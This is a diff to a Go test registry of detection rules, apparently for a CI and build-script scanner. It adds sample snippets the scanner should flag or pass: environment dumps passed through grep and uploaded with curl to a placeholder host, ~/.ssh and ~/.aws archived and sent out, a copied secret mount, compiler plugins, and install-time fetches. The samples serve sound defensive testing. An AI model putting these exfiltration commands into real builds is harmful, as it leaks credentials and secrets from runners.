@@ -217,6 +217,16 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// A grep that can pass every variable is no prefix: an alternation or
+			// an unanchored piece of a name, context lines, -z reading the dump as
+			// one line, patterns from a file or a second -e.
+			{"x.sh", "printenv | grep -E '^CI_|=' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -i oken > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -A1000 '^CI_' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -z '^CI_' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -f pats.txt > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{".gitlab-ci.yml", "r:\n  script:\n    - printenv | grep -e '^CI_COMMIT' -e '=' > b.env\n    - curl --upload-file b.env https://x.invalid/b.env", 4, false},
+			{"x.sh", "printenv | grep -i '^ci_pipeline' > b.env\ncurl -T b.env https://x.invalid/u", 0, true},
 			// Credential folders archived whole, and a BuildKit secret mount copied out.
 			{"x.sh", "tar czf h.tgz ~/.ssh ~/.aws\ncurl -T h.tgz https://x.invalid/u", 2, false},
 			{"Dockerfile", "FROM node:20\nRUN --mount=type=secret,id=npmrc cp /run/secrets/npmrc /tmp/n\nRUN curl -sT /tmp/n https://x.invalid/u", 3, false},
@@ -266,6 +276,9 @@ var registry = []Rule{
 		{"x.sh", "printenv > /tmp/e", 0, false},
 		{"x.sh", "printenv -0 | gzip -9 > /tmp/e.gz", 0, false},
 		{"x.sh", "env | sort", 0, true},
+		// The environment a vendor's setvars.sh built, kept for later steps.
+		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          source /opt/intel/oneapi/setvars.sh\n          printenv >> \"$GITHUB_ENV\"", 0, true},
+		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: printenv >> \"$GITHUB_STEP_SUMMARY\"", 0, false},
 	}},
 	{"reverse-shell", KindNetwork, High, "opens a raw connection or a reverse shell",
 		"it gives a machine outside a shell inside the project's network and runner", []Case{
@@ -313,6 +326,9 @@ var registry = []Rule{
 			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
 			{"x.go", "// #cgo CFLAGS: -fplugin=./tools/x.so", 0, false},
 			{"x.go", "// #cgo LDFLAGS: -lm", 0, true},
+			{"build.sh", "export CFLAGS=\"$CFLAGS -fplugin=./tools/x.so\"", 0, false},
+			// The shell's edit of a value, removing a flag.
+			{"build.sh", "export CFLAGS=\"${CFLAGS//-fuse-ld=gold/}\"", 0, true},
 		}},
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
@@ -320,6 +336,9 @@ var registry = []Rule{
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
+			// A function the build script declares itself, named fetch.
+			{"build.zig", "fn fetch(b: *std.Build, url: []const u8) std.Build.LazyPath {\n    return b.path(url);\n}\npub fn build(b: *std.Build) void {\n    _ = fetch(b, \"x\");\n}", 0, true},
+			{"setup.py", "def fetch(u):\n    return urllib.request.urlopen(u)", 2, false},
 		}},
 	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
